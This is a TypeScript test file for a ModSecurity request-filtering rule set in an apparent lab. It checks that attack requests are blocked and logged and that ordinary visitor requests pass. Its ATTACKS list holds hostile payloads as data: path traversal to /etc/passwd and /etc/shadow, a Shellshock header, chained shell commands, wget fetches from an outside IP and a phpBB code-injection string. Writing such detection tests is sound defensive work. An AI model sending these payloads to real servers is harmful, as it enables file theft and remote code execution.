import { writeFile } from 'node:fs/promises';
import * as assert from 'uvu/assert';
import { type GuardedSite, including, startGuardedSite } from '../lab/modsecurity.ts';
import { ADDRESS, createNetwork, type Network } from '../lab/network.ts';
import { labSuite } from '../lab/suite.ts';

const test = labSuite("ModSecurity's rules for requests", 'apache2');
const SITE = `http://${ADDRESS.web}`;
const HOST = ['--header', 'Host: web.example'];
const JSON_BODY = ['--header', 'Content-Type: application/json', '--data'];

/** Exceptions for two pages, as modsecurity-requests.conf describes them. */
const EXCEPTIONS = `
  <Location "/forum">
    SecRuleRemoveById 11711-11719
  </Location>
  SecRule REQUEST_FILENAME "@beginsWith /search" "id:11791,phase:1,pass,nolog,ctl:ruleRemoveById=11701-11719"`;

/** The target, further arguments of curl, and the rule of ModSecurity that denies the request. */
const ATTACKS: readonly (readonly [path: string, words: readonly string[], by: number])[] = [
  ['/show.php?file=/etc/passwd', [], 11701],
  ['/show.php?file=../../../../etc/passwd%00.jpg', [], 11701],
  ['/show.php?file=%2Fetc%2Fpasswd', [], 11701],
  ['/show.php?file=%252Fetc%252FPassWd', [], 11701],
  ['/show.php?file=/etc/./x/..//shadow', [], 11701],
  ['/show.php?/etc/passwd', [], 11701],
  ['/a/../../etc/passwd', [], 11701],
  ['/a%2F..%2F..%2Fetc%252Fpasswd', [], 11701],
  ['/', ['--cookie', 'skin=../../etc/passwd'], 11701],
  ['/', ['--user-agent', '() { :;}; /bin/cat /x'], 11702],
  ['/run?c=/bin/ls', [], 11702],
  ['/run?c=/bin/uname%20-a', [], 11702],
  ['/run?c=/usr/bin/whoami', [], 11702],
  ['/run?c=%2Fusr%2Fbin%2FWHOAMI', [], 11702],
  ['/run?c=;cd%20/tmp', [], 11703],
  ['/run?c=cd+/tmp;ls', [], 11703],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell's, not JavaScript's
  ['/run?c=cd${IFS}/tmp', [], 11703],
  ['/run?c=wget%20http://198.51.100.1/x', [], 11704],
  ['/run?c=%3Bwget+x', [], 11704],
  ['/run?c=a|wget%2520-q%2520x', [], 11704],
  ['/viewtopic.php?highlight=%27', [], 11705],
  ['/viewtopic.php?t=1&highlight=%2527%252Esystem(chr(108))', [], 11705],
  ['/', ['--data', 'file=/etc/passwd'], 11711],
  ['/', ['--data', 'file=%2Fetc%2FPASSWD'], 11711],
  ['/', ['--data', 'host=127.0.0.1; cat /etc/passwd'], 11711],
  ['/', ['--form', 'file=../../etc/passwd'], 11711],
  ['/', [...JSON_BODY, '{"page":{"file":"../../etc/passwd"}}'], 11711],
  ['/', ['--data', 'c=/bin/ls -l'], 11712],
  ['/', ['--data', 'host=x|/usr/bin/whoami'], 11712],
  ['/', ['--data', 'c=cd /tmp'], 11713],
  ['/', ['--data', 'c=x%26%26wget http://198.51.100.1/x'], 11714],
  ['/', ['--data', 'highlight=%27'], 11715],
];

/** Requests of ordinary visitors. */
const HARMLESS: readonly (readonly [path: string, words: readonly string[]])[] = [
  ['/?q=wget', []],
  ['/?q=how+to+use+wget+options', []],
  ['/?q=passwd+and+shadow', []],
  ['/?highlight=don%27t', []],
  ['/?file=/etc/passwd.html', []],
  ['/', ['--referer', 'https://search.example/?q=/etc/passwd']],
  ['/', ['--data', 'user=alice&password=secret%27']],
  [
    '/',
    [
      '--data',
      'post=Users are listed in /etc/passwd (see passwd(5)), and wget https://x.example/ gets a page.',
    ],
  ],
  ['/', ['--data', 'post=Type cd /tmp, then /bin/ls.']],
  ['/', [...JSON_BODY, '{"post":"look into /etc/passwd for it"}']],
];

let network: Network;
let site: GuardedSite;
test.before(async () => {
  network = await createNetwork();
  site = await startGuardedSite(network, `${EXCEPTIONS}\n${including(['modsecurity-requests.conf'])}`);
});
test.after(async () => {
  await site.apache.stop();
  await network.remove();
});

for (const [path, words, by] of ATTACKS) {
  test(`denies ${words[1] ?? path} by ${by}, and names the attacker in an alert`, async () => {
    assert.is(await site.ask(ADDRESS.attacker, `${SITE}${path}`, ...HOST, ...words), 403);
    const [alert, ...more] = await site.alerts();
    const [rule, level] = by < 11711 ? [117015, 10] : [30411, 7];
    assert.equal(alert, { rule, level, srcip: ADDRESS.attacker, by });
    assert.equal(more, []);
  });
}

test('names the whole IPv6 address of an attacker', async () => {
  const url = `http://[${ADDRESS.web6}]/?f=/etc/passwd`;
  assert.is(await site.ask(ADDRESS.attacker6, url, ...HOST), 403);
  assert.equal(await site.alerts(), [{ rule: 117015, level: 10, srcip: ADDRESS.attacker6, by: 11701 }]);
});

test('raises an alert of level 12 for many attacks in form fields', async () => {
  for (let count = 0; count < 8; count++)
    await site.ask(ADDRESS.attacker, `${SITE}/`, ...HOST, '--data', 'f=/etc/passwd');
  assert.is((await site.alerts()).at(-1)?.level, 12);
});

for (const [path, words] of HARMLESS) {
  test(`passes ${words[1] ?? path}`, async () => {
    assert.is(await site.ask(ADDRESS.visitor, `${SITE}${path}`, ...HOST, ...words), 200);
    assert.equal(await site.lines(), []);
  });
}

test('lets requests pass only for the page and the rules of an exception', async () => {
  assert.is(await site.ask(ADDRESS.visitor, `${SITE}/forum`, ...HOST, '--data', 'post=/etc/passwd'), 404);
  assert.is(await site.ask(ADDRESS.visitor, `${SITE}/search?q=/etc/passwd`, ...HOST), 404);
  assert.equal(await site.lines(), []);
  assert.is(await site.ask(ADDRESS.attacker, `${SITE}/forum?q=/etc/passwd`, ...HOST), 403);
  assert.is(await site.ask(ADDRESS.attacker, `${SITE}/find?q=/etc/passwd`, ...HOST), 403);
  assert.is((await site.lines()).length, 2);
});

test('raises no alert for a visitor with 30 pages, pictures, two 404s and a login', async () => {
  for (let page = 1; page <= 30; page++) {
    for (const name of [`page-${page}.html`, `picture-${page}.png`]) {
      await writeFile(`${site.apache.directory}/htdocs/${name}`, 'x');
      assert.is(await site.ask(ADDRESS.visitor, `${SITE}/${name}?from=/bin/`, ...HOST), 200);
    }
  }
  for (const name of ['favicon.ico', 'old.html'])
    assert.is(await site.ask(ADDRESS.visitor, `${SITE}/${name}`, ...HOST), 404);
  assert.is(
    await site.ask(ADDRESS.visitor, `${SITE}/`, ...HOST, '--data', 'user=bob&password=a;b|c$(d)'),
    200,
  );
  assert.equal(await site.lines(), []);
});

test.run();
